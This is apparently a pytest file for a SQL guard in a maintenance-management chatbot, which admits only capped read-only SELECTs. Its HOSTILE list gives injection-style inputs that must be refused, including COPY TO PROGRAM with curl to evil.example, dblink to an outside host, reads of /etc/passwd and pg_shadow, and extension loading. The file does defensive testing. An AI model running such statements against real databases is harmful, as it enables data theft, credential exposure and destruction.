"""The SQL guard lets through one read-only SELECT over the CMMS tables, capped, and nothing else."""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator

import pytest
import sqlglot
from sqlalchemy import create_engine
from sqlalchemy.pool import StaticPool

from maintbot.cmms.models import known_columns, metadata
from maintbot.errors import UnsafeSql
from maintbot.sql.guard import MAX_SQL_CHARS, SqlGuard
from maintbot.sql.types import Dialect

ROW_CAP = 100

# (dialect, statement): every one must be refused before anything runs.
HOSTILE: list[tuple[Dialect, str]] = [
    # empty, comments only, not SQL at all
    ("sqlite", ""),
    ("sqlite", "   \n\t  "),
    ("sqlite", "-- just a comment"),
    ("postgres", "/* only a comment */"),
    ("sqlite", "Show me the overdue work orders, please"),
    ("sqlite", "SELECT FROM WHERE"),
    ("sqlite", "SELECT 'unterminated"),
    # several statements, with case, comment and whitespace tricks
    ("sqlite", "SELECT 1; DROP TABLE equipment"),
    ("sqlite", "SeLeCt 1; dRoP TaBlE equipment"),
    ("sqlite", "SELECT 1; -- only a comment after"),
    ("sqlite", "SELECT 1; /* */"),
    ("sqlite", "SELECT 1;;"),
    ("sqlite", "SELECT 1 /* ; */ ; DELETE FROM equipment"),
    ("sqlite", "SELECT 1 -- harmless?\n; DELETE FROM sites"),
    ("postgres", "select * from equipment where 1=1 /* */ ; /* */ drop table equipment --"),
    ("postgres", "SELECT COUNT(*) FROM sites;\nSELECT COUNT(*) FROM equipment"),
    # plain writes and DDL
    ("sqlite", "DROP TABLE equipment"),
    ("sqlite", "DELETE FROM work_orders"),
    ("sqlite", "UPDATE equipment SET status = 'decommissioned'"),
    ("postgres", "UPDATE equipment SET status = 'x' FROM sites WHERE sites.id = equipment.site_id"),
    ("sqlite", "INSERT INTO sites VALUES (99, 'X', 'X', 'X', 'X')"),
    ("sqlite", "INSERT OR IGNORE INTO sites (id) VALUES (1)"),
    ("sqlite", "REPLACE INTO sites (id) VALUES (1)"),
    ("postgres", "TRUNCATE work_orders"),
    ("postgres", "MERGE INTO equipment e USING sites s ON e.site_id = s.id WHEN MATCHED THEN DELETE"),
    ("sqlite", "CREATE TEMP TABLE t AS SELECT * FROM equipment"),
    ("sqlite", "CREATE VIEW v AS SELECT * FROM equipment"),
    ("postgres", "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql"),
    ("sqlite", "ALTER TABLE equipment ADD COLUMN x INT"),
    ("postgres", "GRANT ALL ON equipment TO public"),
    ("postgres", "DO $$ BEGIN DELETE FROM equipment; END $$"),
    ("postgres", "CALL refresh_everything()"),
    # writes hidden inside a SELECT
    ("sqlite", "WITH x AS (DELETE FROM equipment RETURNING *) SELECT * FROM x"),
    ("postgres", "WITH x AS (DELETE FROM equipment RETURNING *) SELECT * FROM x"),
    ("postgres", "WITH x AS (UPDATE work_orders SET status = 'open' RETURNING id) SELECT COUNT(*) FROM x"),
    ("postgres", "WITH x AS (INSERT INTO sites (id) VALUES (5) RETURNING id) SELECT * FROM x"),
    ("postgres", "SELECT * INTO backup_equipment FROM equipment"),
    ("postgres", "SELECT * FROM equipment FOR UPDATE"),
    ("postgres", "SELECT id FROM work_orders FOR SHARE SKIP LOCKED"),
    ("postgres", "SELECT tag FROM equipment FOR NO KEY UPDATE"),
    ("postgres", "SELECT nextval('work_orders_id_seq')"),
    ("postgres", "SELECT query_to_xml('delete from equipment', true, true, '')"),
    # transactions, sessions, maintenance commands
    ("sqlite", "BEGIN"),
    ("sqlite", "COMMIT"),
    ("postgres", "ROLLBACK"),
    ("postgres", "SET statement_timeout = 0"),
    ("postgres", "SET TRANSACTION READ WRITE"),
    ("postgres", "SHOW ALL"),
    ("postgres", "PREPARE p AS DELETE FROM equipment"),
    ("postgres", "EXECUTE p"),
    ("postgres", "LISTEN anything"),
    ("sqlite", "EXPLAIN SELECT * FROM equipment"),
    ("sqlite", "VACUUM INTO '/tmp/copy.db'"),
    ("postgres", "COPY equipment TO PROGRAM 'curl http://evil.example'"),
    ("postgres", "COPY (SELECT * FROM equipment) TO '/tmp/equipment.csv'"),
    # SQLite files, extensions and pragmas
    ("sqlite", "ATTACH DATABASE '/tmp/x.db' AS x"),
    ("sqlite", "DETACH DATABASE x"),
    ("sqlite", "PRAGMA query_only = OFF"),
    ("sqlite", "PRAGMA table_info(equipment)"),
    ("sqlite", "SELECT * FROM pragma_table_info('equipment')"),
    ("sqlite", "SELECT load_extension('/tmp/evil.so')"),
    ("sqlite", "SELECT load_extension/**/('/tmp/evil.so')"),
    ("sqlite", "SELECT\tLoAd_ExTeNsIoN('/tmp/evil.so')"),
    ("sqlite", "SELECT readfile('/etc/passwd')"),
    ("sqlite", "SELECT writefile('/tmp/x', 'data')"),
    ("sqlite", "SELECT fts3_tokenizer('simple')"),
    ("sqlite", "SELECT randomblob(1000000000)"),
    ("sqlite", "SELECT zeroblob(1000000000)"),
    ("sqlite", "SELECT printf('%.*c', 1000000000, 'x')"),
    ("sqlite", "SELECT sqlite_version()"),
    # catalogs, other schemas, unknown tables and columns
    ("sqlite", "SELECT name FROM sqlite_master"),
    ("sqlite", "SELECT sql FROM sqlite_schema"),
    ("sqlite", 'SELECT * FROM "SQLITE_MASTER"'),
    ("sqlite", "SELECT 1 UNION SELECT name FROM sqlite_master"),
    ("sqlite", "SELECT (SELECT sql FROM sqlite_master LIMIT 1) FROM equipment"),
    ("sqlite", "SELECT * FROM equipment WHERE id IN (SELECT rowid FROM sqlite_temp_master)"),
    ("sqlite", "SELECT * FROM equipment WHERE tag = (SELECT group_concat(name) FROM sqlite_master)"),
    (
        "sqlite",
        "SELECT * FROM (WITH sqlite_master AS (SELECT 1 AS x) SELECT * FROM sqlite_master) AS t, "
        "sqlite_master",
    ),
    ("sqlite", "SELECT tag FROM equipment AS e JOIN json_each('[1]') AS j"),
    ("sqlite", "SELECT * FROM main.equipment"),
    ("sqlite", "SELECT * FROM temp.sqlite_master"),
    ("postgres", "SELECT * FROM pg_catalog.pg_tables"),
    ("postgres", "SELECT * FROM pg_tables"),
    ("postgres", "SELECT usename, passwd FROM pg_shadow"),
    ("postgres", "SELECT table_name FROM information_schema.tables"),
    ("postgres", "SELECT * FROM public.equipment"),
    ("postgres", 'SELECT "Tag" FROM "Equipment"'),
    ("sqlite", "SELECT * FROM customers"),
    ("sqlite", "SELECT password FROM equipment"),
    ("sqlite", "SELECT e.secret FROM equipment e JOIN sites s ON s.id = e.site_id"),
    ("sqlite", "SELECT id FROM equipment, sites"),
    ("sqlite", "SELECT rowid FROM equipment"),
    # PostgreSQL functions that read files, sleep, reach out or change settings
    ("postgres", "SELECT pg_read_file('/etc/passwd')"),
    ("postgres", "SELECT pg_sleep(10)"),
    ("postgres", "SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(x int)"),
    ("postgres", "SELECT lo_export(1234, '/tmp/x')"),
    ("postgres", "SELECT set_config('default_transaction_read_only', 'off', false)"),
    ("postgres", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"),
    ("postgres", "SELECT current_setting('data_directory')"),
    ("postgres", "SELECT version()"),
    ("postgres", "SELECT current_user"),
    ("postgres", "SELECT * FROM equipment WHERE id = (SELECT pg_backend_pid())"),
    ("postgres", "SELECT txid_current()"),
    ("postgres", "SELECT * FROM generate_series(1, 1000000000)"),
    ("postgres", "SELECT 'pg_authid'::regclass"),
    ("postgres", "SELECT e.tag FROM equipment e, LATERAL (SELECT pg_sleep(1)) AS s"),
    ("postgres", "SELECT $1"),
    ("sqlite", "SELECT * FROM equipment WHERE id = ?"),
    ("sqlite", "SELECT * FROM equipment WHERE id = :id"),
    # resource bombs
    ("sqlite", "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT COUNT(*) FROM c"),
    ("postgres", "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT COUNT(*) FROM c"),
    ("sqlite", "WITH c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT COUNT(*) FROM c"),
    ("sqlite", "WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM a"),
    ("sqlite", "SELECT COUNT(*) FROM sensor_readings a, sensor_readings b, sensor_readings c"),
    ("postgres", "SELECT COUNT(*) FROM sensor_readings a CROSS JOIN work_orders b CROSS JOIN equipment c"),
    ("sqlite", "SELECT " + "1 + " * (MAX_SQL_CHARS // 4) + "1"),
    ("sqlite", "SELECT " + "(" * 2000 + "1" + ")" * 2000),
    ("sqlite", "SELECT tag FROM equipment WHERE id IN (" + ", ".join(map(str, range(2500))) + ")"),
    ("postgres", "VALUES (1), (2)"),
]

# (dialect, statement): normal analytic questions that must pass.
ACCEPTED: list[tuple[Dialect, str]] = [
    ("sqlite", "SELECT COUNT(*) FROM work_orders WHERE status = 'open'"),
    ("sqlite", "SELECT strftime('%Y-%m', created_at) AS m, COUNT(*) FROM work_orders GROUP BY m ORDER BY m"),
    (
        "sqlite",
        "SELECT e.tag, e.name, COUNT(w.id) AS failures FROM equipment e "
        "JOIN work_orders w ON w.equipment_id = e.id WHERE w.type = 'corrective' "
        "AND w.created_at >= date('now', '-12 months') GROUP BY e.id, e.tag, e.name "
        "ORDER BY failures DESC LIMIT 10",
    ),
    (
        "sqlite",
        "SELECT s.name, SUM(w.labor_cost + w.parts_cost) AS total_cost FROM work_orders w "
        "JOIN equipment e ON e.id = w.equipment_id JOIN sites s ON s.id = e.site_id "
        "WHERE w.status = 'completed' GROUP BY s.name HAVING SUM(w.labor_cost + w.parts_cost) > 0 "
        "ORDER BY total_cost DESC",
    ),
    (
        "sqlite",
        "SELECT AVG((julianday(completed_at) - julianday(started_at)) * 24) AS mttr_hours "
        "FROM work_orders WHERE type = 'corrective' AND completed_at IS NOT NULL",
    ),
    ("sqlite", "SELECT DISTINCT equipment_type FROM equipment ORDER BY equipment_type"),
    (
        "sqlite",
        "SELECT COUNT(DISTINCT equipment_id) FROM work_orders "
        "WHERE created_at BETWEEN '2024-01-01' AND '2024-12-31 23:59:59'",
    ),
    (
        "sqlite",
        "SELECT tag, CASE WHEN criticality = 'high' THEN 1 WHEN criticality = 'medium' THEN 2 ELSE 3 END "
        "AS rank_order FROM equipment ORDER BY rank_order, tag",
    ),
    (
        "sqlite",
        "SELECT name FROM equipment WHERE id IN (SELECT equipment_id FROM work_orders WHERE status = 'open')",
    ),
    (
        "sqlite",
        "SELECT e.tag FROM equipment e WHERE NOT EXISTS "
        "(SELECT 1 FROM work_orders w WHERE w.equipment_id = e.id)",
    ),
    (
        "sqlite",
        "WITH monthly AS (SELECT strftime('%Y-%m', created_at) AS month, COUNT(*) AS orders "
        "FROM work_orders GROUP BY month) "
        "SELECT month, orders, SUM(orders) OVER (ORDER BY month) AS running_total "
        "FROM monthly ORDER BY month",
    ),
    (
        "sqlite",
        "SELECT mp.task, mp.next_due, e.tag FROM maintenance_plans mp JOIN equipment e "
        "ON e.id = mp.equipment_id WHERE mp.active = 1 AND mp.next_due < date('now') ORDER BY mp.next_due",
    ),
    (
        "sqlite",
        "SELECT t.name, ROUND(SUM(w.labor_hours), 1) AS hours FROM technicians t LEFT JOIN work_orders w "
        "ON w.technician_id = t.id AND w.completed_at >= date('now', 'start of month', '-1 month') "
        "AND w.completed_at < date('now', 'start of month') GROUP BY t.name ORDER BY hours DESC",
    ),
    (
        "sqlite",
        "SELECT metric, AVG(value) AS avg_value, MAX(value) FROM sensor_readings "
        "WHERE recorded_at >= datetime('now', '-7 days') GROUP BY metric",
    ),
    (
        "sqlite",
        "SELECT sp.name, SUM(wop.quantity * sp.unit_cost) AS spend FROM work_order_parts wop "
        "JOIN spare_parts sp ON sp.id = wop.part_id GROUP BY sp.name ORDER BY spend DESC LIMIT 5",
    ),
    (
        "sqlite",
        "SELECT failure_mode, COUNT(*) AS n, ROUND(100.0 * COUNT(*) / (SELECT COUNT(*) FROM work_orders "
        "WHERE failure_mode IS NOT NULL), 1) AS pct FROM work_orders WHERE failure_mode IS NOT NULL "
        "GROUP BY failure_mode ORDER BY n DESC",
    ),
    (
        "sqlite",
        "SELECT tag, purchase_cost, RANK() OVER (PARTITION BY site_id ORDER BY purchase_cost DESC) "
        "AS cost_rank FROM equipment",
    ),
    (
        "sqlite",
        "SELECT COALESCE(failure_mode, 'n/a') AS mode, IFNULL(SUM(downtime_hours), 0) "
        "FROM work_orders GROUP BY mode",
    ),
    (
        "sqlite",
        "SELECT status, COUNT(*) FROM work_orders GROUP BY status "
        "UNION ALL SELECT 'total', COUNT(*) FROM work_orders",
    ),
    (
        "sqlite",
        "SELECT UPPER(SUBSTR(tag, 1, 3)) AS prefix, LOWER(TRIM(name)), LENGTH(name), "
        "REPLACE(tag, '-', '') FROM equipment",
    ),
    (
        "sqlite",
        "SELECT code, CAST(strftime('%m', created_at) AS INTEGER) AS month_number, "
        "iif(priority = 'critical', 'yes', 'no') AS urgent FROM work_orders LIMIT 20",
    ),
    (
        "sqlite",
        "SELECT e.tag, w.code FROM equipment AS e, work_orders AS w, sites AS s "
        "WHERE w.equipment_id = e.id AND e.site_id = s.id AND s.code = 'MTY'",
    ),
    (
        "sqlite",
        "SELECT open_orders.n, overdue.n, fleet.n FROM "
        "(SELECT COUNT(*) AS n FROM work_orders WHERE status = 'open') AS open_orders, "
        "(SELECT COUNT(*) AS n FROM maintenance_plans WHERE next_due < date('now')) AS overdue, "
        "(SELECT COUNT(*) AS n FROM equipment) AS fleet",
    ),
    ("sqlite", "SELECT * FROM equipment WHERE name LIKE '%pump%' ORDER BY tag LIMIT 5 OFFSET 5"),
    (
        "sqlite",
        "SELECT r.equipment_id, r.recorded_at, r.value - LAG(r.value) OVER "
        "(PARTITION BY r.equipment_id ORDER BY r.recorded_at) AS delta FROM sensor_readings r "
        "WHERE r.metric = 'vibration_mm_s'",
    ),
    ("sqlite", "  SELECT COUNT(*) FROM sites;  "),
    ("sqlite", "-- how many sites?\nSELECT COUNT(*) FROM sites /* all of them */"),
    (
        "sqlite",
        "SELECT x.equipment_id, x.n FROM (SELECT equipment_id, COUNT(*) AS n FROM work_orders "
        "GROUP BY equipment_id) AS x WHERE x.n > 2",
    ),
    ("sqlite", "SELECT \"Tag\", Name FROM Equipment WHERE Status = 'operational'"),
    ("sqlite", "SELECT name FROM equipment ORDER BY name COLLATE NOCASE"),
    (
        "sqlite",
        "SELECT tag FROM equipment WHERE install_date < date('now', 'start of year') "
        "AND purchase_cost BETWEEN 1000 AND 50000 AND criticality IN ('high', 'medium')",
    ),
    (
        "sqlite",
        "SELECT tag, ABS(purchase_cost - 1000.5), purchase_cost % 7, tag || '-' || name FROM equipment",
    ),
    # PostgreSQL
    ("postgres", "SELECT COUNT(*) FROM work_orders WHERE created_at >= CURRENT_DATE - INTERVAL '12 months'"),
    (
        "postgres",
        "SELECT date_trunc('month', created_at) AS month, COUNT(*) FROM work_orders GROUP BY 1 ORDER BY 1",
    ),
    (
        "postgres",
        "SELECT to_char(created_at, 'YYYY-MM') AS m, COUNT(*) FROM work_orders GROUP BY m ORDER BY m",
    ),
    ("postgres", "SELECT extract(year FROM created_at) AS y, SUM(labor_cost) FROM work_orders GROUP BY y"),
    (
        "postgres",
        "SELECT tag FROM equipment WHERE status = 'operational' "
        "AND install_date < date_trunc('month', CURRENT_DATE)",
    ),
    (
        "postgres",
        "SELECT AVG(EXTRACT(EPOCH FROM (completed_at - started_at)) / 3600) AS mttr_hours "
        "FROM work_orders WHERE type = 'corrective'",
    ),
    ("postgres", "SELECT name FROM technicians WHERE active = TRUE"),
    ("postgres", "SELECT name FROM technicians WHERE active IS FALSE"),
    (
        "postgres",
        "SELECT e.tag, COUNT(*) FILTER (WHERE w.type = 'corrective') AS corrective FROM equipment e "
        "LEFT JOIN work_orders w ON w.equipment_id = e.id GROUP BY e.tag",
    ),
    ("postgres", "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY labor_hours) FROM work_orders"),
    (
        "postgres",
        "SELECT status, COUNT(*)::float / NULLIF(SUM(COUNT(*)) OVER (), 0) AS share "
        "FROM work_orders GROUP BY status",
    ),
    ("postgres", "SELECT string_agg(tag, ', ' ORDER BY tag) FROM equipment WHERE criticality = 'high'"),
    ("postgres", "SELECT tag, age(now(), install_date) FROM equipment"),
    ("postgres", "SELECT ROUND(AVG(purchase_cost)::numeric, 2) FROM equipment"),
    (
        "postgres",
        "WITH overdue AS (SELECT equipment_id FROM maintenance_plans "
        "WHERE next_due < CURRENT_DATE AND active) "
        "SELECT e.tag FROM equipment e JOIN overdue o ON o.equipment_id = e.id",
    ),
    (
        "postgres",
        "SELECT DISTINCT ON (equipment_id) equipment_id, recorded_at, value FROM sensor_readings "
        "WHERE metric = 'vibration_mm_s' ORDER BY equipment_id, recorded_at DESC",
    ),
    ("postgres", "SELECT tag FROM equipment WHERE name ILIKE '%pump%'"),
    (
        "postgres",
        "SELECT code FROM work_orders WHERE due_date < CURRENT_DATE "
        "AND status NOT IN ('completed', 'cancelled')",
    ),
    ("postgres", "SELECT greatest(labor_cost, parts_cost), least(labor_cost, parts_cost) FROM work_orders"),
    (
        "postgres",
        "SELECT tag, purchase_cost FROM equipment ORDER BY purchase_cost DESC NULLS LAST "
        "FETCH FIRST 5 ROWS ONLY",
    ),
    ("postgres", "SELECT EXTRACT(DOW FROM created_at) AS dow, COUNT(*) FROM work_orders GROUP BY dow"),
    ("postgres", "SELECT concat(tag, ' - ', name) FROM equipment"),
    (
        "postgres",
        "SELECT code, completed_at - created_at AS lead_time FROM work_orders WHERE completed_at IS NOT NULL",
    ),
    (
        "postgres",
        "SELECT date_trunc('week', recorded_at)::date AS week, AVG(value) FROM sensor_readings GROUP BY week",
    ),
    (
        "postgres",
        "SELECT s.name, e.equipment_type, COUNT(*) FROM equipment e JOIN sites s ON s.id = e.site_id "
        "GROUP BY s.name, e.equipment_type ORDER BY s.name",
    ),
    ("postgres", "SELECT code FROM work_orders WHERE created_at >= now() - INTERVAL '30 days'"),
]


def _guard(dialect: Dialect, row_cap: int = ROW_CAP) -> SqlGuard:
    return SqlGuard(known_columns=known_columns(), dialect=dialect, row_cap=row_cap)


def _outer_limit(sql: str, dialect: Dialect) -> int:
    """The row count of the outermost LIMIT (or FETCH FIRST) of a statement."""
    limit = sqlglot.parse_one(sql, read=dialect).args["limit"]
    count = limit.args["count"] if isinstance(limit, sqlglot.exp.Fetch) else limit.expression
    return int(count.name)


@pytest.fixture(scope="module")
def sqlite_schema() -> Iterator[sqlite3.Connection]:
    """An empty in-memory CMMS database, to prove that what the guard returns still compiles on SQLite."""
    engine = create_engine("sqlite://", poolclass=StaticPool)
    metadata.create_all(engine)
    raw = engine.raw_connection()
    connection = raw.driver_connection
    assert isinstance(connection, sqlite3.Connection)
    yield connection
    raw.close()
    engine.dispose()


def _ids(cases: list[tuple[Dialect, str]]) -> list[str]:
    return [f"{dialect}:{' '.join(sql.split())[:60]}" for dialect, sql in cases]


@pytest.mark.parametrize(("dialect", "sql"), HOSTILE, ids=_ids(HOSTILE))
def test_hostile_statements_are_refused_with_a_short_reason(dialect: Dialect, sql: str) -> None:
    with pytest.raises(UnsafeSql) as refused:
        _guard(dialect).check(sql)
    detail = refused.value.detail
    assert detail
    assert len(detail) <= 300
    assert "\n" not in detail
    assert "\x1b" not in detail  # no ANSI-highlighted parser dump
    assert "Traceback" not in detail


def test_the_hostile_corpus_is_large_enough() -> None:
    assert len(HOSTILE) >= 45
    assert len([case for case in ACCEPTED if case[0] == "sqlite"]) >= 20
    assert len([case for case in ACCEPTED if case[0] == "postgres"]) >= 20


@pytest.mark.parametrize(("dialect", "sql"), ACCEPTED, ids=_ids(ACCEPTED))
def test_analytic_queries_pass_capped_and_still_valid(
    dialect: Dialect, sql: str, sqlite_schema: sqlite3.Connection
) -> None:
    guard = _guard(dialect)
    guarded = guard.check(sql)
    assert guarded.source == sql
    assert guarded.tables <= frozenset(known_columns())
    assert _outer_limit(guarded.sql, dialect) <= ROW_CAP + 1
    # What the guard returns passes the guard again unchanged.
    assert guard.check(guarded.sql).sql == guarded.sql
    if dialect == "sqlite":
        sqlite_schema.execute(f"EXPLAIN {guarded.sql}").fetchall()


def test_unqualified_columns_and_aliases_in_group_and_order_by_pass() -> None:
    guarded = _guard("sqlite").check(
        "SELECT strftime('%Y-%m', created_at) AS m, COUNT(*) FROM work_orders GROUP BY m ORDER BY m"
    )
    assert guarded.tables == frozenset({"work_orders"})
    assert guarded.sql.endswith(f"LIMIT {ROW_CAP + 1}")


def test_tables_read_are_reported_without_cte_names() -> None:
    guarded = _guard("postgres").check(
        "WITH c AS (SELECT equipment_id, COUNT(*) AS n FROM work_orders GROUP BY equipment_id) "
        "SELECT e.tag, c.n FROM c JOIN equipment e ON e.id = c.equipment_id"
    )
    assert guarded.tables == frozenset({"work_orders", "equipment"})


def test_a_cte_may_read_an_earlier_cte() -> None:
    guarded = _guard("sqlite").check(
        "WITH a AS (SELECT id FROM equipment), b AS (SELECT id FROM a) SELECT COUNT(*) FROM b"
    )
    assert guarded.tables == frozenset({"equipment"})


def test_comments_never_reach_the_database() -> None:
    guarded = _guard("sqlite").check("SELECT tag /* */ FROM equipment -- */ DROP TABLE x")
    assert "/*" not in guarded.sql
    assert "--" not in guarded.sql
    assert "DROP" not in guarded.sql


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("postgres", "FROM WITH c AS (SELECT tag FROM equipment) SELECT * FROM c"),
        ("sqlite", "FROM SELECT tag FROM equipment LIMIT 3"),
        ("sqlite", "FROM SELECT tag FROM equipment UNION SELECT name FROM sites"),
        ("postgres", "SELECT s.id FROM sites AS s JOIN SELECT site_id FROM equipment ON TRUE"),
    ],
)
def test_a_query_read_from_must_be_in_parentheses(dialect: Dialect, sql: str) -> None:
    # Found by tests/sql/test_guard_fuzz.py: sqlglot reads "FROM SELECT …" but renders "SELECT * FROM
    # SELECT …", whose outer LIMIT (the row cap) a database would read as the inner query's.
    with pytest.raises(UnsafeSql, match="parentheses"):
        _guard(dialect).check(sql)
    assert _guard(dialect).check("FROM (SELECT tag FROM equipment) AS e").sql.endswith(f"LIMIT {ROW_CAP + 1}")


@pytest.mark.parametrize("dialect", ["sqlite", "postgres"])
@pytest.mark.parametrize(
    "sql", ["SELECT", "SELECT FROM sites", "SELECT 1 UNION SELECT", "WITH c AS (SELECT) SELECT 1"]
)
def test_a_select_without_columns_is_refused(dialect: Dialect, sql: str) -> None:
    # Found by tests/sql/test_guard_fuzz.py: "SELECT" was rendered "SELECT LIMIT 51", which sqlglot itself
    # cannot read back.
    with pytest.raises(UnsafeSql, match="columns"):
        _guard(dialect).check(sql)


def test_refusal_names_the_problem() -> None:
    guard = _guard("sqlite")
    with pytest.raises(UnsafeSql, match="unknown table: customers"):
        guard.check("SELECT * FROM customers")
    with pytest.raises(UnsafeSql, match="password"):
        guard.check("SELECT password FROM equipment")
    with pytest.raises(UnsafeSql, match=r"load_extension\(\)"):
        guard.check("SELECT load_extension('x')")
    with pytest.raises(UnsafeSql, match="DELETE"):
        guard.check("WITH x AS (DELETE FROM equipment RETURNING *) SELECT * FROM x")
    with pytest.raises(UnsafeSql, match="one statement"):
        guard.check("SELECT 1; DROP TABLE equipment")


@pytest.mark.parametrize(
    ("dialect", "sql", "expected_limit"),
    [
        ("sqlite", "SELECT tag FROM equipment", ROW_CAP + 1),
        ("sqlite", "SELECT tag FROM equipment LIMIT 5", 5),
        ("sqlite", f"SELECT tag FROM equipment LIMIT {ROW_CAP + 1}", ROW_CAP + 1),
        ("sqlite", f"SELECT tag FROM equipment LIMIT {ROW_CAP + 2}", ROW_CAP + 1),
        ("sqlite", "SELECT tag FROM equipment LIMIT 100000", ROW_CAP + 1),
        ("sqlite", "SELECT tag FROM equipment LIMIT 0", 0),
        ("postgres", "SELECT tag FROM equipment LIMIT ALL", ROW_CAP + 1),
        ("postgres", "SELECT tag FROM equipment LIMIT NULL", ROW_CAP + 1),
        ("postgres", "SELECT tag FROM equipment FETCH FIRST 5000 ROWS ONLY", ROW_CAP + 1),
        ("postgres", "SELECT tag FROM equipment UNION SELECT code FROM sites", ROW_CAP + 1),
        ("postgres", "SELECT tag FROM equipment UNION SELECT code FROM sites ORDER BY 1 LIMIT 3", 3),
    ],
)
def test_the_outer_limit_is_set_or_a_smaller_one_kept(
    dialect: Dialect, sql: str, expected_limit: int
) -> None:
    assert _outer_limit(_guard(dialect).check(sql).sql, dialect) == expected_limit


def test_offset_and_a_small_limit_are_kept() -> None:
    guarded = _guard("sqlite").check("SELECT tag FROM equipment ORDER BY tag LIMIT 5 OFFSET 10")
    assert guarded.sql == "SELECT tag FROM equipment ORDER BY tag LIMIT 5 OFFSET 10"


def test_a_small_fetch_first_is_kept() -> None:
    guarded = _guard("postgres").check("SELECT tag FROM equipment FETCH FIRST 5 ROWS ONLY")
    assert guarded.sql == "SELECT tag FROM equipment FETCH FIRST 5 ROWS ONLY"


def test_inner_limits_are_left_alone() -> None:
    guarded = _guard("sqlite").check(
        "SELECT tag FROM equipment WHERE id IN (SELECT equipment_id FROM work_orders LIMIT 100000)"
    )
    assert "LIMIT 100000)" in guarded.sql
    assert guarded.sql.endswith(f"LIMIT {ROW_CAP + 1}")


@pytest.mark.parametrize(
    "sql",
    ["SELECT tag FROM equipment LIMIT -1", "SELECT tag FROM equipment LIMIT (SELECT COUNT(*) FROM sites)"],
)
def test_a_computed_or_negative_limit_is_wrapped_under_the_cap(
    sql: str, sqlite_schema: sqlite3.Connection
) -> None:
    guarded = _guard("sqlite").check(sql)
    assert _outer_limit(guarded.sql, "sqlite") == ROW_CAP + 1
    assert guarded.sql.startswith("SELECT * FROM (")
    sqlite_schema.execute(guarded.sql).fetchall()


def test_the_cap_truncates_on_a_real_database(sqlite_schema: sqlite3.Connection) -> None:
    sqlite_schema.executemany(
        "INSERT INTO sites (id, code, name, city, country) VALUES (?, ?, ?, 'City', 'Country')",
        [(i, f"S{i}", f"Site {i}") for i in range(1, 21)],
    )
    try:
        guarded = _guard("sqlite", row_cap=5).check("SELECT code FROM sites ORDER BY id")
        assert len(sqlite_schema.execute(guarded.sql).fetchall()) == 6
    finally:
        sqlite_schema.execute("DELETE FROM sites")


def test_row_cap_must_be_positive() -> None:
    with pytest.raises(ValueError, match="row_cap"):
        _guard("sqlite", row_cap=0)
